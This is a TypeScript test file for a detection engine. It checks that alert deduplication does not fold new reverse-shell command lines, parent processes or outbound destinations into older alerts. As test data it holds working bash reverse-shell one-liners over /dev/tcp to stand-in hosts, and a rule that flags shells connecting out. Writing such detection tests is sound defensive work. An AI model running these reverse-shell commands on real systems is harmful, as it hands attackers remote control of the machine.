// Defect: a rule grouped by [Image, User] folded a real reverse shell into an hour-old alert for a
// different command line. Deduplication must never hide a new command line, a new destination or a
// new parent; the same command again still folds into its alert.
import { afterEach, expect, it } from 'vitest';
import { detectHarness, type DetectHarness } from '../helpers/detect-stage.js';

let h: DetectHarness | undefined;
afterEach(() => h?.close());

const shell = (cmd: string, parentExe = '/usr/sbin/apache2') => ({
  processStart: { pid: 4000, ppid: 3999, exe: '/usr/bin/bash', argv: ['bash', '-c', cmd], user: 'www-data', uid: 33, parentExe, parentArgv: [parentExe] },
});

it('a reverse shell with a new command line, or under a new parent, opens its own alert', () => {
  h = detectHarness();
  const t0 = Date.UTC(2026, 0, 1, 9);
  h.ingest('agent-1', shell('exec 3<>/dev/tcp/10.0.0.8/80; echo ping >&3'), t0);
  h.ingest('agent-1', shell('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), t0 + 59 * 60_000);
  h.ingest('agent-1', shell('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', '/usr/sbin/nginx'), t0 + 60 * 60_000);
  h.ingest('agent-1', shell('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), t0 + 61 * 60_000);
  const rs = h.service.list().filter((a) => a.ruleTitle === 'Reverse shell command line');
  expect(rs.length).toBe(3);
  const byCmd = rs.map((a) => `${a.group.ParentImage} ${a.group.CommandLine} x${a.count}`).sort();
  expect(byCmd).toEqual([
    '/usr/sbin/apache2 bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 x2',
    '/usr/sbin/apache2 bash -c exec 3<>/dev/tcp/10.0.0.8/80; echo ping >&3 x1',
    '/usr/sbin/nginx bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 x1',
  ]);
});

it('a connection to a new destination opens its own alert, whatever the rule groups by', () => {
  // A rule grouped by Image alone, as site rules often are ("shells should not connect out").
  const rule = `title: Shell connects out
id: 3f7e1618-4740-4f89-a3ff-a2e7cb910f8f
level: high
tags: [attack.t1095]
logsource: { product: linux, category: network_connection }
detection:
  selection:
    Image|endswith: [/bash, /sh]
    Initiated: 'true'
  condition: selection
vigil:
  group_by: [Image]
`;
  h = detectHarness({ extraRules: [{ file: 'site/shell_connects_out.yml', text: rule }] });
  const t0 = Date.UTC(2026, 0, 1, 9);
  const conn = (ip: string, port: number) => ({
    networkConnection: {
      pid: 77,
      exe: '/usr/bin/bash',
      uid: 33,
      transport: 'TCP',
      direction: 'OUTBOUND',
      localAddress: '192.0.2.10',
      localPort: 40000,
      remoteAddress: ip,
      remotePort: port,
      ipVersion: 4,
      state: 'ESTABLISHED',
    },
  });
  h.ingest('agent-1', conn('10.0.0.8', 80), t0);
  h.ingest('agent-1', conn('203.0.113.6', 4444), t0 + 50 * 60_000);
  h.ingest('agent-1', conn('203.0.113.6', 4445), t0 + 51 * 60_000);
  h.ingest('agent-1', conn('203.0.113.6', 4444), t0 + 52 * 60_000);
  const alerts = h.service.list().filter((a) => a.ruleTitle === 'Shell connects out');
  expect(alerts.map((a) => `${a.group.DestinationIp}:${a.group.DestinationPort} x${a.count}`).sort()).toEqual([
    '10.0.0.8:80 x1',
    '203.0.113.6:4444 x2',
    '203.0.113.6:4445 x1',
  ]);
});
